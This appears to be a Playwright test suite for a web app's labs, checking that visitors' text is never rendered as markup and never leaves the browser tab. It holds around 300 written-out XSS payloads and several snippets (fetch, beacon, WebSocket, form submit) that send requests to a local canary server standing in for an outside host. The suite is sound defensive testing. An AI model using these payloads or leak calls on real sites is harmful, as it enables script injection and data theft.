"""What is promised about a visitor's text: it is never markup, and it never leaves the tab."""

import http.server
import itertools
import json
import re
import threading
from urllib.parse import quote

import pytest
from browser.test_kept import MAIL
from browser.waiting import lab_of, settled, unfold, use
from effort import THOROUGH, tries

from genlab.labs import labs

CANARY = "xyzzycanary"


@pytest.fixture
def canary():
    """A server on another port that counts what reaches it."""
    hits = []

    class Listener(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"127.0.0.1:{server.server_port}", hits
        server.shutdown()


LEAKS = {
    "fetch": "fetch('http://HOST/').catch(() => {})",
    "xhr": "new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.open('GET', 'http://HOST/'); x.send(); })",
    "websocket": "new Promise((done) => { try { const s = new WebSocket('ws://HOST/'); s.onerror = s.onclose = done; } catch { done(); } })",
    "import": "import('http://HOST/x.mjs').catch(() => {})",
    "event source": "new Promise((done) => { try { const s = new EventSource('http://HOST/'); s.onerror = done; } catch { done(); } })",
}
PAGE_LEAKS = {
    "image": "new Promise((done) => { const i = new Image(); i.onerror = i.onload = done; i.src = 'http://HOST/x.png'; })",
    "beacon": "navigator.sendBeacon('http://HOST/', 'x')",
    "style": "new Promise((done) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onerror = l.onload = done; l.href = 'http://HOST/x.css'; document.head.append(l); })",
    "form": "(() => { const f = document.createElement('form'); f.action = 'http://HOST/'; f.target = '_blank'; document.body.append(f); f.submit(); })()",
}  # fmt: skip


@pytest.mark.essential
def test_page_and_worker_can_send_nothing(fresh_live, browser, canary, trouble):
    host, hits = canary
    page = fresh_live()
    worker = page.workers[0]
    for place, code in [
        *((worker, c) for c in LEAKS.values()),
        *((page, c) for c in {**LEAKS, **PAGE_LEAKS}.values()),
    ]:
        place.evaluate(f"async () => {{ await {code.replace('HOST', host)}; }}")
    worker.evaluate(
        "async (host) => { await self.fetch(`http://${host}/late`).catch(() => {}); }", host
    )
    for place in (page, worker):  # a way out that no policy closes
        assert place.evaluate("typeof RTCPeerConnection") == "undefined"
    own_page = browser.new_page()
    own_page.goto(f"http://{host}/own")  # what was on its way has arrived before
    own_page.close()
    assert hits[:1] == ["/own"] and not set(hits) - {"/own", "/favicon.ico"}
    assert any("policy" in line.lower() for line in trouble)  # it was the policy that stopped them
    trouble.clear()


def test_the_canary_server_does_hear_a_page_without_a_policy(browser, canary):
    """The test above can fail: without the policy every leak arrives."""
    host, hits = canary
    page = browser.new_page()
    page.goto(f"http://{host}/own")
    page.evaluate(f"async () => {{ await {LEAKS['fetch'].replace('HOST', host)}; }}")
    assert "/" in hits
    page.close()


@pytest.mark.essential
def test_neither_the_page_nor_the_worker_can_evaluate_text(live, trouble):
    page = live()
    # Later, on its own: while Playwright's call runs, the browser lets everything be evaluated.
    is_blocked = """() => new Promise((done) => setTimeout(() => {
      try { new Function("return 1")(); done(false); } catch { done(true); } }))"""
    assert page.workers[0].evaluate(is_blocked)
    with page.expect_console_message(lambda message: "policy violation" in message.text):
        assert page.evaluate(is_blocked)
    page.evaluate("0")  # what both have said of it has been heard
    trouble.clear()


FORMS = [
    "<script>PWN</script>", "<iframe srcdoc='<script>PWN</script>'>", "<a href='javascript:PWN'>x</a>", "\"><img src=x onerror=PWN>",
    "'><svg/onload=PWN>", "<math><mtext><img src=x onerror=PWN></mtext></math>", "</textarea><img src=x onerror=PWN>",
    "<style>@import 'x'</style>", "<video><source onerror=PWN></video>", "{{constructor.constructor('PWN')()}}", "${PWN}",
    "$\\href{javascript:PWN}{x}$", "$$\\includegraphics{x}$$", "</title><img src=x onerror=PWN>", "</script><script>PWN</script>",
    "<noscript><p title='</noscript><img src=x onerror=PWN>'>", "&lt;img src=x onerror=PWN&gt;", "&#60;img src=x onerror=PWN&#62;",
    "<form action='javascript:PWN'><button>x", "<object data='javascript:PWN'>", "<embed src='javascript:PWN'>", "<base href='//x/'>",
    "<meta http-equiv=refresh content='0;url=javascript:PWN'>", "<link rel=stylesheet href=x onload=PWN>", "<template><img src=x onerror=PWN></template>",
    "<svg><animate onbegin=PWN attributeName=x dur=1s>", "<svg><use href='data:image/svg+xml,<svg onload=PWN>'>", "<!--><img src=x onerror=PWN>-->",
]  # fmt: skip
TAGS = (
    "img src=x",
    "svg",
    "b",
    "input autofocus",
    "details open",
    "video src=x",
    "audio src=x",
    "body",
    "marquee",
    "select autofocus",
    "object",
    "div",
)
HANDLERS = (
    "onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onstart", "onanimationstart", "onpointerenter", "onclick",
    "onbeforeinput", "onloadstart", "onpageshow", "onscroll", "ontransitionend", "onwheel", "oncanplay", "onblur", "oninput",
    "onresize", "onselect", "onsubmit", "ondrag", "oncopy",
)  # fmt: skip
PAYLOADS = [
    form.replace("PWN", f"top.pwned={n}")
    for n, form in enumerate([*FORMS, *(f"<{tag} {on}=PWN>" for tag in TAGS for on in HANDLERS)], 1)
]
WRAPS = [
    "{}",
    "Subject: {}\n\nbody",
    "From: {}\nSubject: x\nContent-Type: text/html\n\n<p>{}</p>",
    "win {} money {}",
    "<html>{}",
]

# What genlab and its widgets draw with; whatever else stands in a lab came from a payload.
FOREIGN = """(allowed) => { const seen = []; const walk = (n) => { for (const c of n.children) {
  if (!allowed.includes(c.localName) || [...c.attributes].some((a) => a.name.startsWith("on") || /^javascript:/i.test(a.value))) seen.push(c.outerHTML);
  if (c.shadowRoot) walk(c.shadowRoot); walk(c); } }; for (const e of document.querySelectorAll("section.lab:not([hidden]) :is([data-root], .notices)")) walk(e);
  return seen; }"""
ALLOWED = "div span p pre br g defs marker circle rect text a b i small bdi mark h2 h3 canvas ul ol li label input textarea button svg path table caption thead tbody tr th td style link sub sup strong select option details summary section dl dt dd".split()  # noqa: SIM905
LABS = labs()


def chunks(size=12):
    return [PAYLOADS[start : start + size] for start in range(0, len(PAYLOADS), size)]


POLICIES = ["with the policy", "without the policy"] if THOROUGH else ["with the policy"]


@pytest.fixture(params=POLICIES)
def kind(request):
    return request.param


@pytest.fixture
def open_trapped(kind, live):
    """Opens a link and arms the trap. What keeps markup out is our own escaping: whatever stands
    in the page that is not genlab's is found with the policy, and in a thorough run without it,
    too, where it would run.
    """

    def open_lab(link):
        page = live(link, kind)
        page.evaluate("globalThis.pwned = 0")
        return page

    return open_lab


def test_payloads_number_three_hundred_and_the_trap_catches_markup(open_trapped, trouble):
    assert len(set(PAYLOADS)) >= 300
    page = open_trapped("#spam")
    plant = "document.querySelector('section.lab:not([hidden]) [data-root]').insertAdjacentHTML('beforeend', '<img alt=x><b onclick=x></b>')"
    page.evaluate(plant)
    assert len(page.evaluate(FOREIGN, ALLOWED)) == 2
    page.evaluate(
        "document.querySelectorAll('img[alt=x], b[onclick]').forEach((element) => element.remove())"
    )
    assert page.evaluate(FOREIGN, ALLOWED) == []
    trouble.clear()  # the policy’s word on what was planted here


@pytest.mark.parametrize("slug", LABS)
@pytest.mark.essential("with the policy-spam")
def test_no_input_is_ever_markup(open_trapped, slug):
    is_complete = THOROUGH or slug == "spam"  # a mail is shown whole; the rest, by its start
    page = open_trapped(f"#{slug}")
    boxes = lab_of(page, slug).get_by_role("textbox")
    for fold in lab_of(page, slug).locator("button.fold").all() if not boxes.count() else ():
        fold.click()
        settled(page)
    boxes = boxes.all()
    assert boxes
    for place, box in enumerate(boxes):
        # Every payload into the first box and what holds a whole text, a dozen into each of the
        # others.
        payload_chunks = (
            chunks() if place == 0 and is_complete else chunks()[place % 8 : place % 8 + 1]
        )
        for wrap, payloads in zip(itertools.cycle(WRAPS), payload_chunks):
            box.fill(wrap.replace("{}", " ".join(payloads)))
            box.press("Tab")
            settled(page)
            assert page.evaluate(FOREIGN, ALLOWED) == []
    assert page.evaluate("globalThis.pwned") == 0


@pytest.mark.parametrize("slug", LABS)
def test_hostile_links_open_something_and_run_nothing(open_trapped, slug):
    page = open_trapped(f"#{slug}")
    payload_cycle = itertools.cycle(PAYLOADS)
    links = [f"#{quote(next(payload_cycle))}", f"#{slug}?{quote(next(payload_cycle))}=1"]
    links += [
        f"#{slug}?{name}={quote(next(payload_cycle))}"
        for name in LABS[slug].fields
        for _ in range(tries(4, 1))
    ]
    for link in links:
        page.evaluate("(link) => { location.hash = link; }", link)
        settled(page)
        assert page.evaluate(FOREIGN, ALLOWED) == []
    assert page.evaluate("globalThis.pwned") == 0
    page.evaluate("location.hash = '#spam?prior=0.25'")
    page.wait_for_url(re.compile(r"prior=0\.25"))


def test_a_mail_is_in_no_address_title_storage_cache_or_console(live):
    page, messages = live(), []

    def listen(message):
        messages.append(message.text)

    page.on("console", listen)
    page.get_by_label("E-mail", exact=True).fill(
        f"Dear {CANARY}, your secret order has been sent to the address you gave us"
    )
    page.get_by_role("status").get_by_text(re.compile("spam", re.I)).first.wait_for()
    unfold(page, "spam").get_by_role("radio", name="Bernoulli").check()
    page.wait_for_url(re.compile("bernoulli"))
    storage = page.evaluate(
        """async () => JSON.stringify([location.href, document.title, {...localStorage}, {...sessionStorage}, history.state,
        await caches.keys(), (await indexedDB.databases()).map((d) => d.name), document.cookie])"""
    )
    page.remove_listener("console", listen)
    assert CANARY not in storage and not any(CANARY in line for line in messages)
    assert json.loads(storage)[5:7] == [[], []]


@pytest.mark.essential
def test_a_mail_enters_a_link_only_by_the_box_that_says_so(live):
    page = live()
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.get_by_label("E-mail", exact=True).fill(f"{CANARY} {MAIL}")
    page.get_by_role("status").get_by_text(re.compile("spam", re.I)).first.wait_for()
    use(page, "Share")
    shared = page.locator("#share[open]")
    shared.get_by_role("button", name="Copy the link").click()
    shared.get_by_text("Copied.").wait_for()
    assert CANARY not in page.evaluate("navigator.clipboard.readText()")
    shared.get_by_role("button", name="Put it in").click()
    shared.get_by_text(f"{CANARY} Congratulations").wait_for()
    shared.get_by_role("button", name="Copy the link").click()
    shared.get_by_text("Copied.").wait_for()
    link = page.evaluate("navigator.clipboard.readText()")
    assert CANARY in link and shared.locator("figure").is_visible()
    shared.press("Escape")
    page.get_by_label("E-mail", exact=True).fill(f"free money {CANARY} " * 200)
    settled(page)
    use(page, "Share")
    shared.get_by_role("button", name="Put it in").click()
    shared.get_by_text("free money").wait_for()
    assert not shared.locator("figure").is_visible()  # longer than a code is read
    assert live().get_by_label("E-mail", exact=True).input_value() == ""
    assert (
        live(link[link.index("#") :]).get_by_label("E-mail", exact=True).input_value()
        == f"{CANARY} {MAIL}"
    )
